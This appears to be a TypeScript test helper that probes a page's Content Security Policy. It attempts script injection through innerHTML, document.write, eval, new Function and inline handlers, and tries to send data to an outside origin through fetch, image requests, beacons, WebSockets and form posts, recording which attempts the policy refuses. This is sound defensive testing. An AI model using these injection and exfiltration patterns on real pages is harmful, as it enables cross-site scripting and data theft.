// These bring script into a page, or take something out. They run in the page, so they may use nothing from outside.

/**
 * Tries each way by itself. Returns "refused" if the page's policy refuses it, else its result.
 *
 * @param given an origin of a stranger's, how long to wait for the policy to say so, milliseconds, and the ways that it lets pass
 */
export async function injectEveryWay([stranger, patience, open]: readonly [
  stranger: string,
  patience: number,
  open: readonly string[],
]): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  let violations = 0;
  document.addEventListener("securitypolicyviolation", () => {
    violations += 1;
  });
  const pause = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  // A turn of its own: what the protocol evaluates may do what scripts may not.
  await pause(0);
  const attempt = async (way: string, act: () => unknown): Promise<void> => {
    const before = violations;
    let outcome = "done";
    try {
      await act();
    } catch {
      outcome = "failed";
    }
    const most = open.includes(way) ? 0 : patience;
    for (let waited = 0; waited <= most && violations === before; waited += 10) await pause(10);
    outcomes[way] = violations > before ? "refused" : outcome;
  };
  const add = (name: string, attributes: Record<string, string>) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  await attempt("inner html", () => {
    document.body.innerHTML += "<img src=x onerror='pwned = 1'>";
  });
  await attempt("document.write", () => document.write("<script>pwned = 1</script>"));
  await attempt("script text", () => {
    add("script", {}).textContent = "pwned = 1";
  });
  await attempt("script source", () => add("script", { src: `${stranger}/script.js` }));
  await attempt("handler", () => add("p", { onclick: "pwned = 1" }).click());
  await attempt("eval", () => Reflect.get(globalThis, "eval")("pwned = 1"));
  await attempt("function", () => new Function("pwned = 1")());
  await attempt("timer of text", () => Reflect.apply(setTimeout, globalThis, ["pwned = 1"]));
  await attempt("policy", () => Reflect.get(globalThis, "trustedTypes").createPolicy("p", {}));
  await attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["1"]))));
  await attempt("base", () => add("base", { href: stranger }));
  await attempt("style", () => add("link", { rel: "stylesheet", href: `${stranger}/style.css` }));
  await attempt("inline style", () => {
    add("style", {}).textContent = "body { display: none }";
  });
  await attempt("image", () => add("img", { src: `${stranger}/?secret` }));
  await attempt("frame", () => add("iframe", { src: stranger, name: "out" }));
  await attempt("fetch", () => fetch(`${stranger}/?secret`, { mode: "no-cors" }));
  await attempt("loopback", () => fetch("http://127.0.0.1:4000/", { mode: "no-cors" }));
  await attempt("beacon", () => navigator.sendBeacon(`${stranger}/`, "secret"));
  await attempt("socket", () => new WebSocket(stranger.replace("https", "wss")));
  await attempt("form", () => {
    const form = add("form", { method: "post", action: stranger, target: "out" });
    if (form instanceof HTMLFormElement) form.submit();
  });
  outcomes["pwned"] = String(Reflect.has(globalThis, "pwned"));
  return outcomes;
}
